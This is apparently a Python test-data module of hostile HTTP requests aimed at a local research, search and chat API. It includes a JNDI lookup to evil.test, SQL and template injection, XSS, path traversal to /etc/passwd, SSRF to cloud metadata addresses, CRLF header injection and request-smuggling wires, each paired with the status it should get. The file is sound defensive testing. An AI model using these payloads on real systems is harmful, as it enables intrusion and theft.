"""Hostile requests, in groups with one case for each request. No response may repeat the MARK of a body.

The file is data, and each line is a request that once broke some server.
"""

from __future__ import annotations

import json
from collections.abc import Iterable, Iterator, Mapping
from dataclasses import dataclass, field
from typing import Any

from modules.llm_platform.domain.dtos.llm_dtos import MAX_MESSAGES
from modules.llm_platform.domain.dtos.web_search_dtos import MAX_QUERY_CHARS
from modules.llm_platform.domain.research.long_message import MAX_MESSAGE_CHARS

MARK = "zqxvmark"
TOO_LONG = "b" * (MAX_QUERY_CHARS + 1)  # longer than a query may be
JSON = {"content-type": "application/json"}
RESEARCH, SEARCH, WEB, CHAT = "/research", "/search", "/llm-platform/web-search", "/llm-platform/chat"
PLAN = "/research/plan"
REPORT = {"query": "solar sails", "depth": "report", "sources": ["documents"]}
PLAIN: Mapping[str, dict[str, Any]] = {
    RESEARCH: {"query": "solar sails"},
    SEARCH: {"q": "solar sails"},
    WEB: {"query": "solar sails"},
    CHAT: {"messages": [{"role": "user", "content": "hi"}]},
    PLAN: {"query": "solar sails"},
}
OK = (200, 503)  # chat without a model returns 503
REFUSED = (422,)
MIB = 1 << 20


@dataclass(frozen=True)
class Case:
    """A request and its accepted statuses. `wire`, if set, is sent as the whole request."""

    why: str
    status: tuple[int, ...]
    method: str = "POST"
    target: str = RESEARCH
    headers: Mapping[str, str] = field(default_factory=lambda: JSON)
    body: bytes = b""
    wire: bytes = b""
    request_id: str | None = None  # the request id that the response must return

    def __str__(self) -> str:
        return f"{self.method} {self.target[:40]}: {self.why}"

    def bytes(self) -> bytes:
        if self.wire:
            return self.wire
        names = {name.lower() for name in self.headers}
        lines = [f"{self.method} {self.target} HTTP/1.1"]
        lines += [f"{name}: {value}" for name, value in self.headers.items()]
        if "host" not in names:
            lines.append("host: localhost")
        if self.body or self.method in ("POST", "PUT", "PATCH"):
            lines.append(f"content-length: {len(self.body)}")
        if "connection" not in names:
            lines.append("connection: close")
        return "\r\n".join([*lines, "", ""]).encode() + self.body


def _bytes(body: Any) -> bytes:
    if isinstance(body, bytes):
        return body
    return body.encode() if isinstance(body, str) else json.dumps(body).encode()


def posted(target: str, bodies: Iterable[Any], status: tuple[int, ...] = REFUSED) -> Iterator[Case]:
    for body in bodies:
        sent = _bytes(body)
        yield Case(repr(sent[:60]), status, target=target, body=sent)


def fields(target: str, wrong: Mapping[str, Iterable[Any]], status: tuple[int, ...] = REFUSED) -> Iterator[Case]:
    for name, values in wrong.items():
        yield from posted(target, ({**PLAIN[target], name: value} for value in values), status)


def no_objects() -> Iterator[Case]:
    bodies = (
        "",
        "null",
        "[]",
        f'"{MARK}"',
        "0",
        "{",
        f'{{"query":"{MARK}',
        "{'query':'x'}",
        '{"query":"a",}',
        "{}",
        '{"query":"solar"}{"query":"x"}',
        "\ufeff",
        "//x\n{}",
        '{"query"}',
        "[{}]",
        "undefined",
        "NaN",
        "\x00",
    )
    for target in PLAIN:
        yield from posted(target, bodies)


def encodings() -> Iterator[Case]:
    question = '{"query":"solar sails"}'
    yield from posted(
        RESEARCH,
        [
            question.encode("utf-16"),
            question.encode("utf-32"),
            '{"query":"caf\xe9 sol"}'.encode("latin-1"),
            b'{"query":"\xed\xa0\xbd\xed\xb8\x80 solar"}',
            b'{"query":"a\xc0\x80bcd"}',
            b'{"query":"\xff\xfezqxvmark"}',
            b'{"query":"solar \xe2\x82"}',
            r'{"query":"solar \u0000 sails"}',
            b'{"query":"solar \x00 sails"}',
            b'{"query":"solar \n sails"}',
            r'{"query":"solar \ud83d sails"}',
            r'{"query":"\ude00\ud83d solar"}',
        ],
    )
    yield from posted(CHAT, [r'{"messages":[{"role":"user","content":"\ud800"}]}'])
    for number in ("NaN", "Infinity", "-Infinity", "1e999", "-1e999"):
        yield from posted(RESEARCH, [f'{{"query":{number}}}'])
        yield from posted(WEB, [f'{{"query":"solar","count":{number}}}'])
    yield from posted(WEB, ['{"query":"solar","count":' + "9" * 5000 + "}"])
    either = (200, 422)
    yield from posted(
        RESEARCH,
        [
            '{"query":"solar sails","x":NaN}',
            '{"query":"solar sails","x":' + "9" * 5000 + "}",
            '{"query":"solar sails","x":' + "[" * 300 + "]" * 300 + "}",
            '{"query":"no","query":"solar sails"}',
            '{"query":"solar sails"' + ',"k":1' * 100_000 + "}",
            r'{"query":"solar sails","\ud800":"\ud800"}',
            b'\xef\xbb\xbf{"query":"solar sails"}',
        ],
        either,
    )
    yield from posted(CHAT, ['{"messages":' + "[" * 100_000, '{"messages":' + '{"a":' * 50_000])


def questions() -> Iterator[Case]:
    nothing = ["", "ab", "  ab  ", TOO_LONG, "   ", "\t\r\n", "\u200b\u200b\u200b\u200b", "\u2060\ufeff\u200d"]
    nothing += [
        "\u3000\u3000\u3000",
        "\u200b \u00a0 \u200b",
        "\u202e\u202e\u202e",
        "\u3164\u3164\u3164",
        "\ufe0f\ufe0f\ufe0f",
    ]
    something = [
        "🙂🙂🙂",
        "b" * 500,
        "  abc  ",
        "'; DROP TABLE x; --",
        "${jndi:ldap://evil.test/a}",
        "{{7*7}}",
        "%s%n {0}",
    ]
    something += [
        "../../etc/passwd",
        "<script>alert(1)</script>",
        "!!g solar sails",
        ":de !news solar",
        "\u202esolar sails",
    ]
    something += ["a\u0301" * 100, "日本の首都は", "%00%0d%0aSet-Cookie: a=b", "👩\u200d👩\u200d👧 family"]
    other: list[Any] = [0, 1.5, True, None, [], {}, ["solar sails"], {"password": MARK}, MARK * 12_500]
    yield from fields(RESEARCH, {"query": [*nothing, *other]})
    yield from fields(RESEARCH, {"query": something}, (200,))
    yield from fields(WEB, {"query": ["", "\u200b", "\x00", TOO_LONG, 7, None, "b" * 100_000]})


def research_fields() -> Iterator[Case]:
    wrong: dict[str, list[Any]] = {
        "depth": ["DEEP", "Report", "deeper", 1, None, [], {}, True, MARK, "shallow "],
        "sources": ["web", [], ["blog"], ["web", "blog"], [1], None, {"0": "web"}, [["web"]], ["web"] * 5, [MARK]],
        "language": [1, "", MARK * 3, "en_", "x", "en-US-POSIX-x", [], True, "../en"],
        "omit_raw": ["true", 1, None, "yes", []],
        "stream": ["true", 1, None, 0],
        "time_range": ["hour", "DAY", 1, [], "oneDay", ""],
        "domains": [
            "py*thon.org",
            [1],
            7,
            {},
            ["ftp://x.org"],
            ["x.*"],
            ["x org"],
            ["a@x.org"],
            ["127.0.0.1\\@x.org"],
            ["\u202egro.x"],
            ["ü" * 2000],
            ["a" * 70 + ".org/"],
            ["python.org"] * 301,
            "[" * 50_000,
            "a" * 100_001,
            f"{MARK}..org",
            ["-"],
        ],
    }
    yield from fields(RESEARCH, wrong)
    ignored = {"language": ["en_US"], "base_url": ["http://evil.test/"], "api_key": [MARK], "__proto__": [{"a": 1}]}
    yield from fields(RESEARCH, ignored, (200,))


def reports() -> Iterator[Case]:
    wrong: dict[str, list[Any]] = {
        "plan": ["solar", [], ["ab"], [1], [None], {}, True, ["sail?"] * 11, [MARK * 100], ["\x00sail"], [["sail?"]]],
        "urls": [
            "https://a.test/",
            ["ftp://a.test/"],
            ["javascript:alert(1)"],
            ["file:///etc/passwd"],
            ["//a.test"],
            [""],
            [1],
            ["https://a.test/" + "b" * 2000],
            ["https://a.test/\nb"],
            ["https://a.test/ b"],
            ["https://a.test/"] * 21,
            [None],
            ["https://a.test/\x00"],
            ["https://a.test/\u202e"],
            [f"data:text/html,{MARK}"],
        ],
        "instructions": ["x" * 2001, 1, [], {"a": 1}, True, MARK * 300],
        "max_llm_calls": [-1, 10_001, 1.5, "1", True, [], 10**30],
        "max_cost_usd": [-0.01, "1", True, [], {}, MARK],
        "max_seconds": [0, -1, 86_401, "60", True, [], MARK],
        "fresh": ["true", 1, None, [], MARK],
    }
    for name, values in wrong.items():
        yield from posted(RESEARCH, ({**REPORT, name: value} for value in values))
    without = {"plan": [["What is a sail?"]], "urls": [["https://a.test/"]], "max_llm_calls": [0], "fresh": [True]}
    yield from fields(RESEARCH, without)
    right = {"plan": [["What is a sail?"]], "max_llm_calls": [0], "max_seconds": [30], "instructions": ["", "short"]}
    for name, values in right.items():
        yield from posted(RESEARCH, ({**REPORT, name: value} for value in values), (200,))
    within = {
        "urls": [["http://127.0.0.1:9/"], ["http://169.254.169.254/latest/meta-data/"], ["http://[::1]/"], ["http:///"]]
    }
    for name, values in within.items():
        yield from posted(RESEARCH, ({**REPORT, name: value} for value in values), (200, 422, 502, 503))
    yield from fields(PLAN, {"query": ["", "ab", 1, None, [], "\u200b\u200b\u200b", TOO_LONG, {"password": MARK}]})
    yield from fields(
        PLAN, {"language": ["x", 1, ""], "other_than": ["solar", [1], ["ab"], [None], ["sail?"] * 31, {}]}
    )
    yield from fields(PLAN, {"other_than": [[], ["What is a sail?"]], "language": ["en_US"], "depth": ["deep"]}, (200,))


def search_fields() -> Iterator[Case]:
    wrong: dict[str, list[Any]] = {
        "count": [0, 51, -1, "10", 1.0, 1.5, None, True, [], 10**30, -(10**30), ""],
        "page": [0, 51, -1, "1", None, True, 1.5],
        "summary": ["true", 1, 0, None],
        "freshness": [
            "",
            1,
            [],
            "lastWeek",
            "2025-02-30",
            "2025-13-01",
            "2025-01-02..2025-01-01",
            "2025-01-01..",
            MARK,
        ],
        "engines": [
            "google",
            ["goo\ngle"],
            ["g" * 61],
            ["a;b"],
            [""],
            [" "],
            ["google"] * 51,
            [None],
            ["g\x00"],
            ["гугл"],
        ],
        "sources": [[], ["x"]],
        "language": ["english-language"],
    }
    yield from fields(WEB, wrong)
    days = ["..2025-01-01", "0000-00-00", "oneDay ", "one day", "9999-99-99..9999-99-99", "２０２５-01-01"]
    yield from fields(WEB, {"freshness": days})
    right = {
        "count": [1, 50],
        "page": [50],
        "freshness": ["noLimit", "2024-01-01..2024-12-31", "oneWeek"],
        "summary": [False],
        "engines": [["google scholar", "a.b_c-d"]],
        "domains": [["python.org", "-pinterest.com"], [""], "nasa.gov", ["https://NASA.gov/x", "*.edu"]],
        "language": ["zh-Hant-TW"],
        "x": [1],
    }
    yield from fields(WEB, right, (200,))
    wrong = {
        "q": ["", None, 1, "!!g solar", "solar !!wiki", "\x00x", "\u200b", "b" * (MAX_MESSAGE_CHARS + 1), ["a"]],
        "engines": ["a;b", ["<x>"], 1, {"a": 1}, [1]],
        "page": [0, -1, "1", 51, None, 1.5],
        "language": ["xx_yy_zz", 1],
        "time_range": ["hour", 1],
        "categories": [1, {"a": 1}],
    }
    yield from fields(SEARCH, wrong)
    yield from fields(SEARCH, {"q": ["!gon solar"], "categories": [["files"]]}, (200,))


def conversations() -> Iterator[Case]:
    wrong = [[], None, {}, "hi", [None], ["hi"], [{}], [{"role": "user"}], [{"content": "x"}]]
    wrong += [[{"role": "tool", "content": "x"}]]
    wrong += [[{"role": "user", "content": value}] for value in ("", None, 7, [{"type": "text", "text": MARK}])]
    wrong += [[{"role": "user", "content": "x"}] * (MAX_MESSAGES + 1)]
    yield from fields(CHAT, {"messages": wrong, "max_tokens": [0, -1, "5", 1.5, True, 10**9], "stream": ["true", 1]})
    yield from fields(CHAT, {"model": ["", 1, "m" * 201], "provider": ["", []]})
    odd = {"base_url": ["http://evil.test/v1"], "provider": ["http://evil.test"], "model": ["no-such-" + MARK]}
    yield from fields(CHAT, odd, (200, 422, 503))


def query_strings() -> Iterator[Case]:
    wrong = ["", "q=", "q=%20%20", "q=%00", "q=%E2%80%8B", "q=!!g+solar", "q=%21%21g", "q=a&page=0", "q=a&page=-1"]
    wrong += [
        "q=a&page=51",
        "q=a&page=1.5",
        "q=a&page=%D9%A1",
        "q=a&page=1e1",
        "q=a&page=99999999999999999999",
        "q=a&page=",
    ]
    wrong += [
        "q=a&pageno=two",
        "q=a&page=0x10",
        "q=a&language=en__US",
        "q=a&time_range=hour",
        "q=a&engines=a;b",
        "q[]=a",
    ]
    wrong += ["q=a&engines=%00", ";q=a", "Q=a", "q=a&engines=" + ",".join(f"e{number}" for number in range(400))]
    odd = [
        "q=%ff%fe",
        "q=%ed%a0%80",
        "q=%zz",
        "q=a&q=b",
        "q=a&page=1&page=2",
        "q=a&engines=google,bing&engines=duckduckgo",
    ]
    odd += [
        "q=a&format=html",
        "q=a&pageno=2",
        "q=a&language=all",
        "q=a&time_range=",
        "q=%s%n%d",
        "q=a%0d%0aX-Evil:%20a",
    ]
    odd += ["q=a&" + "&".join(f"a{number}=1" for number in range(2000))]
    for query in wrong:
        yield Case("wrong", REFUSED, "GET", f"{SEARCH}?{query}", {})
    for query in odd:
        yield Case("odd", (200, 422), "GET", f"{SEARCH}?{query}", {})
    yield Case("60 kB", (400, 414, 422, 431), "GET", f"{SEARCH}?q={'b' * 60_000}", {})
    yield Case("a blank", (200, 400, 422), "GET", f"{SEARCH}?q=a&page= 1", {})


def media_types() -> Iterator[Case]:
    refused = [
        "text/plain",
        "application/xml",
        "multipart/form-data; boundary=x",
        "application/json5",
        "application/jsonx",
    ]
    refused += [
        "*/*",
        "application/yaml",
        f"{MARK}/{MARK}",
        "text/html",
        "application/octet-stream",
        "application/x-ndjson",
    ]
    taken = ["application/json; charset=utf-8", "APPLICATION/JSON", " application/json ", "application/json;;;;"]
    taken += ["application/x-www-form-urlencoded", "application/x-www-form-urlencoded; charset=UTF-8"]
    for target in (RESEARCH, SEARCH):
        body = _bytes(PLAIN[target])
        for name in refused:
            yield Case(name, (415,), target=target, headers={"content-type": name}, body=body)
        for name in taken:
            yield Case(name, (200,), target=target, headers={"content-type": name}, body=body)
    for text in ("query=solar", "q=solar+sails", "[]", "%7B%22query%22%3A1%7D", "\u00a0{}"):
        yield Case(text, (415, 422), headers={"content-type": "application/x-www-form-urlencoded"}, body=text.encode())
    for coding in ("gzip", "br", "deflate", "zstd", "gzip, gzip", "identity, gzip", MARK):
        yield Case(coding, (415,), headers={**JSON, "content-encoding": coding}, body=_bytes(PLAIN[RESEARCH]))


def methods_and_paths() -> Iterator[Case]:
    for method in ("PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "PROPFIND", "FOO"):
        for target in (*PLAIN, "/health"):
            yield Case("another method", (400, 404, 405), method, target, {})
    for target in (PLAN, WEB, CHAT):
        yield Case("no reading", (404, 405), "GET", target, {})
    missing = ["//", "//research", "/research/", "/Research", "/research/..", "/../../etc/passwd", "/.env"]
    missing += ["/..%2f..%2fetc%2fpasswd", "/%2e%2e/%2e%2e/etc/passwd", "/research%00", "/research%2f"]
    missing += [
        "/docs/",
        "/docs/index.html",
        "/docs/LICENSE",
        "/docs/../app.py",
        "/docs/..%2fapp.py",
        "/docs/%2e%2e%2fapp.py",
    ]
    missing += [
        "/page/",
        "/page/index.html",
        "/page/../app.py",
        "/page/..%2fapp.py",
        "/page/%2e%2e/app.py",
        "/page/main.js%00",
    ]
    missing += ["/page/lang/..%2fmain.js", "/page//main.js", "/page/vendor/", "/page/MAIN.js", "/page/main.js/"]
    missing += ["/docs/swagger-ui.css%00", "/docsx", "/redoc", "/admin", "/config"]
    missing += [
        "/settings",
        "/debug/pprof",
        "/searxng/nothing",
        "/%ff%fe",
        f"/{MARK}<script>",
        "/research;a=b",
        "/health/",
    ]
    missing += [
        "/llm-platform",
        "/llm-platform//chat",
        "/v2/chat/completions",
        "/research/x/sources/",
        "/research/sources/1",
    ]
    missing += ["/research/x/sources/1", f"/research/{'x' * 5000}/sources/1", "/research/..%2f/sources/1"]
    for target in missing:
        yield Case("nothing there", (404,), "GET", target, {})
    for index in ("0", "-1", "a", "1.5", "9" * 23, "1e1", "0x1", MARK):
        yield Case("no number", REFUSED, "GET", f"/research/x/sources/{index}", {})
    yield Case("60 kB", (400, 404, 414, 431), "GET", "/" + "a" * 60_000, {})


def senders() -> Iterator[Case]:
    foreign = [{"origin": value} for value in ("null", "http://evil.test", "", "http://localhost:1", "file://", MARK)]
    foreign += [
        {"origin": value}
        for value in ("http://localhost.evil.test", "https://localhost@evil.test", "chrome-extension://abc")
    ]
    foreign += [{"sec-fetch-site": value} for value in ("cross-site", "same-site", "", MARK)]
    foreign += [{"origin": "http://evil.test", "sec-fetch-site": "same-origin"}]
    for headers in foreign:
        yield Case(str(headers), (403,), headers={**JSON, **headers}, body=_bytes(PLAIN[RESEARCH]))
        yield Case(str(headers), (403,), "GET", f"{SEARCH}?q=solar", headers)
    strangers = [
        "evil.test",
        "evil.test:8000",
        "127.0.0.1.evil.test",
        "localhost.evil.test",
        f"a.b.c.{MARK}",
        "évil.test",
    ]
    strangers += ["evil.test#localhost", "evil.test@localhost", "[evil.test]", "[evil.test"]
    for host in strangers:
        yield Case(host, (400, 421), headers={**JSON, "host": host}, body=_bytes(PLAIN[RESEARCH]))
    friends = [
        {"host": "[::1]:8000"},
        {"host": "127.0.0.1"},
        {"sec-fetch-site": "none"},
        {"sec-fetch-site": "same-origin"},
    ]
    friends += [
        {"x-forwarded-host": "evil.test"},
        {"x-forwarded-for": "1.2.3.4, 5.6.7.8"},
        {"origin": "http://localhost"},
    ]
    friends += [{"expect": "100-continue"}, {"range": "bytes=0-1"}, {"x-big": "v" * 20_000}]
    friends += [{"connection": "Upgrade, HTTP2-Settings", "upgrade": "h2c", "http2-settings": "AAMAAABkAAQAAP__"}]
    for headers in friends:
        yield Case(str(headers)[:60], (200,), headers={**JSON, **headers}, body=_bytes(PLAIN[RESEARCH]))
    preflight = {"origin": "http://evil.test", "access-control-request-method": "POST"}
    yield Case("preflight", (403, 405), "OPTIONS", RESEARCH, dict(preflight))
    preflight["access-control-request-private-network"] = "true"
    yield Case("private network", (403, 405), "OPTIONS", RESEARCH, preflight)
    for name in ("a" * 128, "a b c", "!~", "{}", "<script>"):
        yield Case("kept", (200,), "GET", "/ready", {"x-request-id": name}, request_id=name)
    for name in ("a" * 129, "é", "a\tb", "a" * 5000, ""):
        yield Case("replaced", (200,), "GET", "/ready", {"x-request-id": name})


def bodies() -> Iterator[Case]:
    start = b'{"query":"'
    yield Case("2 MB", REFUSED, body=start + MARK.encode() * (MIB // 4) + b'"}')
    yield Case("1 MiB", REFUSED, body=start + b"b" * (MIB - 12) + b'"}')
    yield Case("1 MiB and a byte", REFUSED, body=start + b"b" * (MIB - 11) + b'"}')
    yield Case("1 MiB without files", (413,), body=b" " * MIB + _bytes(PLAIN[RESEARCH]))
    yield Case("blanks", REFUSED, body=b" " * (MIB - 1))


HEAD = "POST /research HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
BODY = '{"query": "solar sails"}'
LENGTH = f"Content-Length: {len(BODY)}\r\n"
READY = "GET /ready HTTP/1.1\r\nHost: localhost\r\n"


def _chunked(*parts: str) -> str:
    return (
        HEAD + "Transfer-Encoding: chunked\r\n\r\n" + "".join(f"{len(part):x}\r\n{part}\r\n" for part in (*parts, ""))
    )


def wires() -> Iterator[Case]:
    told: list[tuple[str, tuple[int, ...]]] = [
        (_chunked(BODY[:5], BODY[5:]), (200,)),
        (_chunked(*BODY), (200,)),
        (f"{HEAD}Transfer-Encoding: chunked\r\n\r\n{len(BODY):x};a=b\r\n{BODY}\r\n0\r\nX-T: 1\r\n\r\n", (200, 400)),
        (f"{HEAD}Transfer-Encoding: chunked\r\n\r\nzz\r\n{BODY}", (400,)),
        (f"{HEAD}Transfer-Encoding: chunked\r\n\r\nffffffffffffffffff\r\n{BODY}", (400, 413)),
        (f"{HEAD}Transfer-Encoding: chunked\r\n\r\n-1\r\n{BODY}", (400,)),
        (f"{HEAD}{LENGTH}Transfer-Encoding: chunked\r\n\r\n{BODY}", (400,)),
        (f"{HEAD}{LENGTH}Content-Length: 7\r\n\r\n{BODY}", (400,)),
        (f"{HEAD}Content-Length: -1\r\n\r\n{BODY}", (400,)),
        (f"{HEAD}Content-Length: +{len(BODY)}\r\n\r\n{BODY}", (400,)),
        (f"{HEAD}Content-Length: many\r\n\r\n{BODY}", (400,)),
        (f"{HEAD}Content-Length: {'9' * 30}\r\n\r\n", (400, 413)),
        (f"{HEAD}Transfer-Encoding: gzip\r\n\r\n{BODY}", (400, 411, 422, 501)),
        (f"{HEAD}Content-Type: text/plain\r\n{LENGTH}\r\n{BODY}", (400,)),
        (f"{HEAD}Host: evil.test\r\n{LENGTH}\r\n{BODY}", (400,)),
        (f"{HEAD.replace('localhost', 'evil.test')}Host: localhost\r\n{LENGTH}\r\n{BODY}", (400,)),
        (f"{HEAD}Origin: http://evil.test\r\nOrigin: http://localhost\r\n{LENGTH}\r\n{BODY}", (400,)),
        (f"{HEAD}Sec-Fetch-Site: cross-site\r\nSec-Fetch-Site: same-origin\r\n{LENGTH}\r\n{BODY}", (400,)),
        (f"{HEAD}Accept: */*\r\nAccept: text/html\r\n{LENGTH}\r\n{BODY}", (200,)),
        (f"{READY}X-Request-ID: a\r\nX-Request-ID: b\r\n\r\n", (200,)),
        ("GET /ready HTTP/1.1\r\n\r\n", (200, 400)),
        ("GET /search?q=solar HTTP/1.0\r\n\r\n", (200, 400)),
        ("GET /ready\r\n\r\n", (200, 400)),
        ("GET /ready HTTP/9.9\r\nHost: localhost\r\n\r\n", (400, 505)),
        ("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", (400, 505)),
        ("GET http://evil.test/ready HTTP/1.1\r\nHost: localhost\r\n\r\n", (200, 400, 404, 421)),
        ("CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n", (400, 404, 405, 421, 501)),
        ("OPTIONS * HTTP/1.1\r\nHost: localhost\r\n\r\n", (200, 204, 400, 404, 405)),
        (f"{READY}X-A: b\r\n c\r\n\r\n", (200, 400)),
        (f"{READY}nonsense\r\n\r\n", (400,)),
        (f"{READY}X-A: a\x00b\r\n\r\n", (200, 400)),
        ("POST /research HTTP/1.1\r\nHost: localhost\r\nContent-Length : 5\r\n\r\nabcde", (400,)),
        ("GET /ready HTTP/1.1\nHost: localhost\n\n", (200, 400)),
        ("\x16\x03\x01\x02\r\n\r\n", (400,)),
        (f"SSH-2.0-{MARK}\r\n\r\n", (400,)),
        ("A" * 10_000 + " /ready HTTP/1.1\r\nHost: localhost\r\n\r\n", (400, 405, 431)),
        ("GET \\ready HTTP/1.1\r\nHost: localhost\r\n\r\n", (400, 404)),
        ("GET /re\u0101dy HTTP/1.1\r\nHost: localhost\r\n\r\n", (400, 404)),
        (f"{READY}\r\nGET /nothing HTTP/1.1\r\nHost: localhost\r\n\r\n", (200,)),
        (f"\r\n\r\n{READY}\r\n", (200, 400)),
    ]
    for text, status in told:
        yield Case(repr(text[:90]), status, "", "", wire=text.encode())


ASKED: Mapping[str, dict[str, Any]] = {  # the compatible APIs
    "/perplexity/chat/completions": {"model": "sonar", "messages": [{"role": "user", "content": "solar sails"}]},
    "/perplexity/search": {"query": "solar sails"},
    "/tavily/search": {"query": "solar sails"},
    "/tavily/extract": {"urls": "http://127.0.0.1:9/"},
    "/tavily/crawl": {"url": "http://127.0.0.1:9/"},
    "/tavily/map": {"url": "http://127.0.0.1:9/"},
    "/tavily/research": {"input": "solar sails"},
    "/searxng/search": {"q": "solar sails"},
    "/open-webui/search": {"query": "solar sails"},
    "/open-webui/load": {"urls": ["http://127.0.0.1:9/"]},
    "/v1/chat/completions": {"model": "research-shallow", "messages": [{"role": "user", "content": "solar sails"}]},
    "/v1/responses": {"model": "research-shallow", "input": "solar sails"},
    "/v1/embeddings": {"model": "wordllama/l2_supercat_256", "input": "solar sails"},
}
INVALID = (400, 404, 422)  # each API has its own status for an invalid field


def compatible_apis() -> Iterator[Case]:
    odd: list[Any] = [
        None,
        7,
        -1,
        1.5,
        True,
        "",
        MARK,
        [],
        {},
        [None],
        [[]],
        {MARK: MARK},
        "\x00",
        "x" * 70_000,
        [MARK] * 3000,
    ]
    for target, plain in ASKED.items():
        for body in (
            "",
            "null",
            "[]",
            f'"{MARK}"',
            "{",
            f'{{"query":"{MARK}',
            "NaN",
            '{"query":"\\ud800"}',
            "[" * 100_000,
        ):
            yield from posted(target, [body], INVALID)
        for name in plain:
            yield from posted(target, ({**plain, name: value} for value in odd), (200, 502, 503, *INVALID))
        yield from posted(target, ({**plain, MARK: value, "stream": value} for value in odd), (200, 503, *INVALID))
        yield from posted(target, [{**plain, "x" * 9000: 1, "ä\r\nX-Evil: 1": 1}], (200, 503))
        yield Case("another type", (415,), target=target, headers={"content-type": "text/plain"}, body=_bytes(plain))
        yield Case(
            "another site", (403,), target=target, headers={**JSON, "origin": "http://evil.test"}, body=_bytes(plain)
        )
        yield Case("another method", (405,), "DELETE", target, {})
    for name in (
        "tools",
        "functions",
        "stop",
        "logprobs",
        "conversation",
        "prompt",
        "disable_search",
        "response_format",
    ):
        for target in ("/perplexity/chat/completions", "/v1/chat/completions", "/v1/responses"):
            yield from posted(target, [{**ASKED[target], name: [{"type": MARK}]}], (200, *INVALID))
    for query in ("", "q=", "q=a&format=html", "q=a&pageno=0", "q=!!g+a", "q=%ff", f"q=a&time_range={MARK}"):
        yield Case("a query", (200, *INVALID), "GET", f"/searxng/search?{query}", {})
    for path in ("/v1", "/v1/models/../x", f"/v1/models/{MARK}", "/v1/models/" + "x" * 5000, "/v1/files", "/tavily"):
        yield Case("nothing there", (404,), "GET", path, {})


GROUPS = (
    no_objects,
    encodings,
    questions,
    research_fields,
    reports,
    search_fields,
    conversations,
    query_strings,
    media_types,
    methods_and_paths,
    senders,
    bodies,
    wires,
    compatible_apis,
)
